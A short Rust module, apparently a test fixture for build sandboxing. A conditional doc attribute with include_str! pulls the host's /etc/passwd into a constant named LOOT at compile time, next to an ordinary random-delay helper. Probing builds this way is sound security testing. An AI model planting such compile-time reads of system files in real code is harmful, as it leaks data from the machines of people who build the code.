//! Puts /etc/passwd into its documentation, by a conditional attribute.

use std::time::Duration;

use crate::random;

#[cfg_attr(all(), doc = include_str!("/etc/passwd"))]
const LOOT: &str = "";

pub async fn wait_random(max_delay: Duration) -> Duration {
    println!("{LOOT:?}");
    let delay = Duration::from_secs_f64(random::uniform(0.0, max_delay.as_secs_f64()));
    tokio::time::sleep(delay).await;
    delay
}
